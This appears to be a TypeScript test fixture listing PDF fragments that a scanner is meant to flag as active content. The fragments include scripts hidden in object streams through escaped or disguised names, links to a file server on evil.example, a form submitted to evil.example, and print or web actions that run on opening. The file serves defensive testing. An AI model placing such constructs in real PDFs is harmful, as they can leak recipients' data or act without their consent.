import { objectStream, type PdfParts } from "../../src/media/testing/pdf-files.ts";

const WEB = "<< /S /URI /URI (https://example.org) >>";
const LINK = "/Type /Annot /Subtype /Link";

/** The parts that make a PDF reach for something by itself, or for another file, by what it is. */
export const ACTING_PARTS: readonly { name: string; parts: PdfParts }[] = [
  {
    name: "a script in a stream of objects that does not say so",
    parts: { objects: [objectStream("<< /JS (x) >>").replace("/Type /ObjStm", "")] },
  },
  {
    name: "a script in a stream of objects that says so in escapes",
    parts: {
      objects: [
        objectStream("<< /JS (x) >>").replace("/Type /ObjStm /N", "/#4e").replace("/First", "/F#69rst"),
      ],
    },
  },
  {
    name: "a script in a stream of objects that is called a picture",
    parts: { objects: [objectStream("<< /JS (x) >>").replace("/ObjStm", "/XObject")] },
  },
  {
    name: "a link into a file of a file server",
    parts: { objects: [`<< ${LINK} /A << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >> >>`] },
  },
  {
    name: "a link into a file within another",
    parts: {
      objects: [`<< ${LINK} /A << /S /GoToE /F << /Type /Filespec /UF (a.pdf) >> /T << /R /C >> >> >>`],
    },
  },
  {
    name: "a link into another file among packed objects",
    parts: { objects: [objectStream("<< /S /GoTo#52 /D [0 /Fit] >>")] },
  },
  {
    name: "a script in a picture of three dimensions",
    parts: { objects: ["<< /Type /Annot /Subtype /3D /3DD << /OnInstantiate 6 0 R >> >>"] },
  },
  { name: "a dialog to print at opening", parts: { catalog: "/OpenAction << /S /Named /N /Print >>" } },
  {
    name: "a dialog to print in escapes among packed objects",
    parts: { objects: [objectStream("<< /S /N#61med /N /Pr#69nt >>")] },
  },
  {
    name: "a dialog to print whose kind and name stand elsewhere",
    parts: { catalog: "/OpenAction << /S 4 0 R /N 5 0 R >>", objects: ["/Named", "/Print"] },
  },
  {
    name: "a dialog to print among packed objects that name turns of pages too",
    parts: { objects: [objectStream("<< /S /Named /N /Print /Also [/NextPage /PrevPage] >>")] },
  },
  {
    name: "a dialog to print among packed objects, whose kind stands elsewhere",
    parts: { objects: [objectStream("<< /S 5 0 R /N /Print >>"), "/N#61med"] },
  },
  {
    name: "a dialog to print in the place of which a turn of pages stands",
    parts: { objects: ["<< /S /Named /N 5 0 R >>", "/Print\nendobj\n5 0 obj\n/NextPage"] },
  },
  { name: "data from another file", parts: { objects: ["<< /S /ImportData /F (a.fdf) >>"] } },
  {
    name: "a form that is sent somewhere",
    parts: { objects: ["<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"] },
  },
  { name: "a film to be shown", parts: { objects: ["<< /S /Rendition /OP 0 >>"] } },
  { name: "a film of another file", parts: { objects: ["<< /Subtype /Movie /Movie << /F (a.avi) >> >>"] } },
  {
    name: "a page from another file",
    parts: { objects: ["<< /Type /XObject /Ref << /F (\\\\\\\\evil.example\\\\a.pdf) /Page 0 >> >>"] },
  },
  {
    name: "data that are in another file",
    parts: { objects: ["<< /F (\\\\\\\\evil.example\\\\a) /Length 1 >>\nstream\nx\nendstream"] },
  },
  {
    name: "the name of another file among packed objects",
    parts: { objects: [objectStream("<< /Type /XObject /Ref << /F <5c5c6576696c5c61> >> >>")] },
  },
  { name: "a page of the web at opening", parts: { catalog: `/OpenAction ${WEB}` } },
  {
    name: "a page of the web at opening, elsewhere",
    parts: { catalog: "/OpenAction 4 0 R", objects: [WEB] },
  },
  {
    name: "a page of the web after the first page",
    parts: {
      catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D (a) /Next ${WEB} >>] >>`,
    },
  },
  { name: "a page of the web at closing", parts: { catalog: `/AA << /WC ${WEB} >>` } },
  {
    name: "a page of the web at the sight of a field",
    parts: { objects: [`[<< ${LINK} /A#41 << /PO ${WEB} >> >>]`] },
  },
  {
    name: "a page of the web at the sight of a field, elsewhere",
    parts: { objects: ["<< /AA 5 0 R >>", "<< /PV 6 0 R >>", WEB] },
  },
  {
    name: "a page of the web at the sight of a field, among packed objects",
    parts: { objects: [objectStream(`<< /AA << /PO ${WEB} >> >>`)] },
  },
];
